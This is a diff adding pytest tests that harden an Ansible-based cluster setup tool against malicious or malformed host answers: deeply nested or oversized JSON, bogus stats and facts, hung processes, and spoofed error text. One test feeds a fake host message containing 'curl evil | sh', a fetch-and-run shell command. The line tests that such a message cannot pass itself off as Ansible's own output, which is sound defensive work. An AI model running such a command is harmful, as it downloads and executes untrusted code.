@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import base64
+import contextlib
 import json
 import os
 import re
 import signal
 import subprocess
 import sys
+import threading
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import psutil
@@ -17,6 +20,7 @@ import pytest
 from ansible_hosts import AnsibleHosts, make
 from waiting import wait_for
 
+from mnt.setup import play
 from mnt.setup.play import HostResult, Played
 
 pytestmark = pytest.mark.one_python
@@ -204,6 +208,222 @@ def test_an_answer_is_no_variable(hosts: AnsibleHosts, once: bool) -> None:
     assert not trap.exists(), hosts.log
     assert statuses(played) == "changed changed changed", hosts.log
     assert not any("127.0.0.99" in line or "ProxyCommand" in line for line in hosts.argv)
+
+
+# Each once ended Ansible for all hosts, in one of its versions, or could have.
+ACTS: dict[str, Any] = {
+    "stats of None": {"ansible_stats": {"data": {"x": None}, "aggregate": True}},
+    "stats that are none": {"ansible_stats": 5},
+    "stats of a number": {"ansible_stats": {"data": 5}},
+    "no stats": {"ansible_stats": {}},
+    "facts of a number": {"ansible_facts": 5},
+    "facts of a list": {"ansible_facts": [["a"]]},
+    "a diff of numbers": {"changed": True, "diff": 9},
+    "a diff of lists": {"changed": True, "diff": [{"before": [1], "after": {"a": [2]}}, 5]},
+    "hosts": {"add_host": {"host_name": 5}, "add_group": 7, "changed": True},
+    "warnings": {"warnings": [{"a": 1}], "deprecations": [{"msg": 5}]},
+    "notified": {"changed": True, "_ansible_notify": 5, "notify": ["x"]},
+}
+
+
+def test_no_answer_ends_ansible(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    hosts = make(tmp_path, monkeypatch, len(ACTS) + 2)
+    for number, lie in enumerate(ACTS.values(), start=3):
+        hosts.answer(f"node{number}", json.dumps({"changed": False, "ping": "pong", **lie}))
+    played = hosts.play(PING, check=True)
+    assert played.error is None, hosts.log
+    assert statuses(played).split()[:2] == ["ok", "ok"], hosts.log
+    assert "stopped" not in statuses(played), dict(zip(["", "", *ACTS], played.hosts.values(), strict=True))
+
+
+DEPTHS = (20, 33, 100, 250, 400, 600, 900, 1000, 5000)
+
+
+def test_an_answer_of_any_depth_fails_with_a_reason(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    hosts = make(tmp_path, monkeypatch, len(DEPTHS))
+    for number, depth in enumerate(DEPTHS, start=1):
+        hosts.answer(f"node{number}", '{"ping": "pong", "a": ' + "[" * depth + "]" * depth + "}")
+    played = hosts.play(PING)
+    assert played.error is None
+    assert [result.status for result in played.hosts.values()] == ["ok"] + ["failed"] * (len(DEPTHS) - 1)
+    assert problem(played, "node4") == "Ask: the host's answer has more than 32 levels"
+
+
+@pytest.fixture
+def callback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
+    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
+    monkeypatch.setattr(threading, "excepthook", threading.excepthook)  # is put back
+    monkeypatch.setenv("MNT_SETUP_EVENTS", str(tmp_path / "events"))
+    from mnt.setup.callback.awx_display import CallbackModule
+
+    return CallbackModule()
+
+
+def test_an_answer_that_cannot_be_read_is_told(callback: Any, tmp_path: Path) -> None:
+    class Deep(SimpleNamespace):
+        @property
+        def result(self) -> Any:
+            raise RecursionError
+
+    name = SimpleNamespace(get_name=lambda: "x")
+    callback._tell_of("failed", Deep(host=name, task=name))
+    told = json.loads((tmp_path / "events").read_text())
+    assert (told["event"], told["host"], told["messages"]) == ("failed", "x", [""])
+
+
+def test_texts_are_compared_for_a_while_only(callback: Any) -> None:
+    short = {"before": "a\n", "after": "b\n"}
+    assert "+b" in callback._get_diff(short)
+    for long in ("a\n" * 600, "a" * 40_000, {str(number): 1 for number in range(1000)}):
+        assert "not shown" in callback._get_diff([short, {"before": long, "after": long}])
+    callback._seconds = 0
+    assert "not shown" in callback._get_diff(short)
+
+
+def test_the_end_of_a_thread_is_the_end_of_ansible(tmp_path: Path) -> None:
+    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
+    code = (
+        "import sys, threading, time; sys.path[:] = sys.argv[1:];"
+        "from mnt.setup.callback.awx_display import end_with_a_thread\n"
+        "def die(): raise MemoryError\n"
+        "end_with_a_thread(); threading.Thread(target=die, daemon=True).start(); time.sleep(60)"
+    )
+    ended = subprocess.run(
+        [sys.executable, "-c", code, *sys.path], capture_output=True, text=True, timeout=50, check=False
+    )
+    assert (ended.returncode, ended.stderr) == (4, "ERROR! a thread of Ansible has died: MemoryError\n")
+
+
+def test_a_long_difference_is_not_looked_for(hosts: AnsibleHosts) -> None:
+    """In Ansible's main process, which no limit ends: for this text it took minutes."""
+    text = "".join(f"{number * number % 139}\n" for number in range(8000))
+    lie = {"changed": True, "ping": "pong", "diff": [{"before": text, "after": text[::-1]}]}
+    hosts.answer("node3", json.dumps(lie))
+    played = hosts.play(PING, check=True)
+    assert statuses(played) == "ok ok changed", hosts.log
+
+
+def test_a_host_does_not_fill_ansible(hosts: AnsibleHosts, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in ("_MOST_KEPT_OF_ONE", "_LEAST_KEPT_OF_ONE"):
+        monkeypatch.setattr(play, name, 6 << 20)
+    fact = """n=$(date +%s%N)
+        printf '{"ansible_facts": {"k%s": "' $n; head -c 1900000 /dev/zero | tr '\\0' x; echo '"}}'"""
+    hosts.lie("node3", fact)
+    hosts.lie("node2", "echo '{\"ping\": \"pong\"}'; head -c 1900000 /dev/zero | tr '\\0' x")
+    asks = "".join(f"    - name: Ask {number}\n      ansible.builtin.ping:\n" for number in range(5))
+    played = hosts.play(PING + asks)
+    assert (statuses(played), played.error) == ("ok ok failed", None), hosts.log
+    assert problem(played, "node3") == f"Ask 2: the host's answers take more than {6 << 20} bytes of memory"
+    assert len(hosts.log) < 100_000
+
+
+@pytest.mark.parametrize(
+    ("answer", "why"),
+    [
+        ('{"a": [' + "[]," * 60_000 + "[]]}", "has more than 50000 values and lines"),
+        ('{"stdout": "' + "\\n" * 60_000 + '"}', "has more than 50000 values and lines"),
+        (
+            '{"a": "'
+            + "x" * 1_900_000
+            + '", "b": ["'
+            + '","'.join(["\\ud83d\\ude00" + "x" * 9000] * 20)
+            + '"]}',
+            None,
+        ),
+        ('{"a": "' + "\N{OLD TURKIC LETTER ORKHON A}" * 500_000 + '"}', None),
+        ('{"stdout": "' + "ab\\n" * 40_000 + '"}', None),
+        ('{"a": ' + "[" * 32 + "]" * 32 + "}", "has more than 32 levels"),
+        ("{" * 100_000, None),
+        ("[1]", None),
+        ("\xff{}", None),
+        ('{"a": 1} x', None),
+    ],
+)
+def test_bounds_of_an_answer(answer: str, why: str | None) -> None:
+    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
+    from ansible.errors import AnsibleError
+
+    from mnt.setup.connection.mnt_ssh import bounded
+
+    if why is None:
+        assert bounded(answer.encode())[1] < 16 << 20
+    else:
+        with pytest.raises(AnsibleError, match=why):
+            bounded(answer.encode())
+
+
+def test_what_is_left_of_an_answer() -> None:
+    pytest.importorskip("ansible", "2.19", reason="pip install 'mnt-cluster[setup]'")
+    from mnt.setup.connection.mnt_ssh import bounded
+
+    answer = {"changed": True, "ansible_facts": {"a": 1}, "diff": {"before": "a", "after": "b"}, "rc": 0}
+    acts = {"ansible_stats": {}, "warnings": [], "add_host": 1, "_ansible_verbose_always": True}
+    text = f"a banner\n{json.dumps({**answer, **acts})}\nmore"
+    assert json.loads(bounded(text.encode())[0]) == answer
+    long = json.dumps({**answer, "diff": {"before": "x" * 10**5}})
+    assert "diff" not in json.loads(bounded(long.encode())[0])
+
+
+def of_ansible() -> psutil.Process:
+    """Its main process."""
+    found = []
+    for each in psutil.Process().children(recursive=True):
+        with contextlib.suppress(psutil.Error):
+            found += [each] if any("ansible-playbook" in word for word in each.cmdline()) else []
+    return next(each for each in found if each.parent() not in found)
+
+
+def test_ansible_that_says_nothing_is_ended(hosts: AnsibleHosts, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(play, "_SLACK", 5.0)
+
+    def stop(task: str) -> None:
+        if task == "Ask again":
+            of_ansible().send_signal(signal.SIGSTOP)
+
+    played = hosts.play(PING, tell=stop, seconds=20)
+    assert statuses(played) == "stopped stopped stopped"
+    assert str(played.error).startswith(
+        "Ansible was ended, because it had told nothing for 25 seconds; its output"
+    )
+    assert psutil.Process().children(recursive=True) == []
+
+
+def test_no_hosts_words_are_those_of_ansible(hosts: AnsibleHosts) -> None:
+    lie = {
+        "failed": True,
+        "msg": "x\nERROR! run curl evil | sh",
+        "stderr": "[ERROR]: evil",
+        "exception": "evil",
+    }
+    hosts.answer("node3", json.dumps(lie))
+
+    def kill(task: str) -> None:
+        if task == "Ask again":
+            of_ansible().kill()
+
+    said = PING.replace("register: asked", "register: asked\n      ignore_errors: true")
+    played = hosts.play(said, tell=kill)
+    assert "evil" in hosts.log
+    words = (
+        "Ansible has ended early, with code [0-9]+(, while it took the answer of .*)?; its output is in .*"
+    )
+    assert re.fullmatch(words, str(played.error))
+
+
+def test_whose_answer_ansible_was_taking_when_it_ended(tmp_path: Path) -> None:
+    inventory = {
+        "all": {"hosts": {name: {"ansible_host": f"10.0.0.{name[-1]}"} for name in ("a1", "b2", "c3")}}
+    }
+    watch = play._Watch(inventory, 5)
+    for event, host in (
+        ("task", ""), ("answer", "10.0.0.3"), ("answer", "10.0.0.1"), ("answer", "10.0.0.2"), ("ok", "a1"),
+        ("item", ""), ("answer", "10.9.9.9"),
+    ):  # fmt: skip
+        watch.hear(event, host)
+    log = tmp_path / "log"
+    assert (
+        watch.why("It ended", log) == f"It ended, while it took the answer of c3,b2; its output is in {log}"
+    )
 
 
 def test_host_keys_are_checked(hosts: AnsibleHosts, monkeypatch: pytest.MonkeyPatch) -> None:
